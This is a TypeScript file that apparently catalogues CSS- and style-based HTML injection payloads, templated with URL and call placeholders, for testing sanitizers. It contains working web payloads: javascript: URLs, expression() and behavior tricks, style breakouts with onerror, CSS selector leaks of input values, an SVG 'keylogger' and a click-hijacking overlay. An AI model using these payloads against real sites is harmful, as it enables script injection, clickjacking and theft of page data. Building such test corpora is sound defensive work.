import { category } from './payload';
import { CSS_LEAKS, HTML5SEC, OWASP, own, PORTSWIGGER, SCRIPTLESS, WHATWG } from './sources';

/** Style sheets and style attributes: scripts of old, and requests that tell what stands in a page. */
export const STYLE = category('style', [
  [
    OWASP,
    {
      import: `<style>@import '{{URL}}';</style>`,
      'import-url': '<style>@import url({{URL}});</style>',
      'import-javascript': '<style>@import "javascript:{{CALL}}";</style>',
      'list-style-image': '<style>li{list-style-image:url("{{URL}}")}</style><ul><li>a</ul>',
      'background-attribute': '<p style="background-image:url({{URL}})">a</p>',
      'background-javascript': '<p style="background-image:url(javascript:{{CALL}})">a</p>',
      'unicode-escapes': '<p style="background-image:\\0075\\0072\\006C({{URL}})">a</p>',
      expression: '<p style="width:expression({{CALL}})">a</p>',
      'expression-comment': `<img style="xss:expr/*x*/ession({{CALL}})">`,
      'moz-binding': '<style>body{-moz-binding:url("{{URL}}#x")}</style>',
      behaviour: '<p style="behavior:url({{URL}})">a</p>',
      'link-stylesheet': '<link rel=stylesheet href="{{URL}}">',
      'link-javascript': '<link rel=stylesheet href="javascript:{{CALL}}">',
      'style-in-attribute-end': `<p style="x:'</style><img src=x: onerror={{CALL}}>'">a</p>`,
      'style-type-javascript': '<style type="text/javascript">{{CALL}}</style>',
    },
  ],
  [
    SCRIPTLESS,
    {
      'font-face': '<style>@font-face{font-family:x;src:url({{URL}})}p{font-family:x}</style><p>a</p>',
      'font-range':
        '<style>@font-face{font-family:y;src:url({{URL}});unicode-range:U+0041}p{font-family:y}</style><p>A</p>',
      'scrollbar-image':
        '<style>p{overflow:auto;width:1px;white-space:nowrap}p::-webkit-scrollbar{background:url({{URL}})}</style><p>aaaaaaa</p>',
      'selection-background': '<style>::selection{background:url({{URL}})}</style>',
      'visited-link':
        '<style>a:visited{background:url({{URL}})}a{background:url({{URL}})}</style><a href=#>a</a>',
      'media-query': '<style>@media(min-width:1px){*{background:url({{URL}})}}</style>',
      'content-url': '<style>p::after{content:url({{URL}})}</style><p>a</p>',
      'svg-keylogger': '<svg><set attributeName=href to="{{URL}}" accesskey=a /><image id=x href=""/></svg>',
    },
  ],
  [
    CSS_LEAKS,
    {
      'attribute-selector': '<input value=secret><style>input[value^=s]{background:url({{URL}})}</style>',
      'has-selector': '<style>html:has(p){background:url({{URL}})}</style><p>a</p>',
      'nested-import': '<style>@import url({{URL}}) layer(x) supports(display:block);</style>',
      variables: '<style>:root{--x:url({{URL}})}p{background:var(--x,none)}</style><p>a</p>',
      'image-set': `<p style="background:image-set('{{URL}}' 1x)">a</p>`,
      'webkit-image-set': '<p style="background:-webkit-image-set(url({{URL}}) 1x)">a</p>',
      'cross-fade': '<p style="background:-webkit-cross-fade(url({{URL}}),url({{URL}}),50%)">a</p>',
      'inline-conditionals':
        '<p data-x=1 style="background:if(style(--x:1):url({{URL}});else:url({{URL}}))">a</p>',
      'attr-url': '<p data-x="{{URL}}" style="background:image-set(attr(data-x))">a</p>',
      'nested-rule': '<style>p{&{background:url({{URL}})}}</style><p>a</p>',
    },
  ],
  [
    PORTSWIGGER,
    {
      cursor: '<p style="cursor:url({{URL}}),auto">a</p>',
      'border-image': '<p style="border:1px solid;border-image:url({{URL}}) 1">a</p>',
      mask: '<p style="mask-image:url({{URL}});-webkit-mask:url({{URL}})">a</p>',
      'filter-url': '<p style="filter:url({{URL}}#f)">a</p>',
      'clip-path-url': '<p style="clip-path:url({{URL}}#c)">a</p>',
      'shape-outside': '<p style="float:left;shape-outside:url({{URL}})">a</p>',
      'offset-path': '<p style="offset-path:url({{URL}}#p)">a</p>',
      'animation-property': `<style>@keyframes z{to{background:url({{URL}})}}</style><p style="animation:z 1s">a</p>`,
    },
  ],
  [
    HTML5SEC,
    {
      'comment-in-property': '<p style="back/**/ground:url({{URL}})">a</p>',
      'property-injection': `<p style="font-family:'a\\';background:url({{URL}});x:'">a</p>`,
      'unclosed-url': '<p style="background:url({{URL}}">a</p>',
      'entity-colon': '<p style="background&colon;url&lpar;{{URL}}&rpar;">a</p>',
      'charset-rule': '<style>@charset "utf-7";@import "{{URL}}";</style>',
      'namespace-rule': '<style>@namespace url({{URL}});@import url({{URL}});</style>',
      'xml-stylesheet': '<?xml-stylesheet href="{{URL}}" type="text/css"?><p>a</p>',
    },
  ],
  [
    own(WHATWG),
    {
      'cover-the-view':
        '<p style="position:fixed;inset:0;z-index:2147483647;background:url({{URL}})"><a href="javascript:{{CALL}}">a</a></p>',
      'host-selector': '<style>:host,::slotted(*),::part(x){background:url({{URL}})}</style>',
      'starting-style': '<style>@starting-style{p{background:url({{URL}})}}</style><p>a</p>',
      'document-rule': '<style>@document url(http:){*{background:url({{URL}})}}</style>',
      'style-media-attribute': '<style media="all">p{background:url({{URL}})}</style><p>a</p>',
      'table-background':
        '<table background="{{URL}}"><tr background="{{URL}}"><td background="{{URL}}">a</td></tr></table>',
    },
  ],
]);
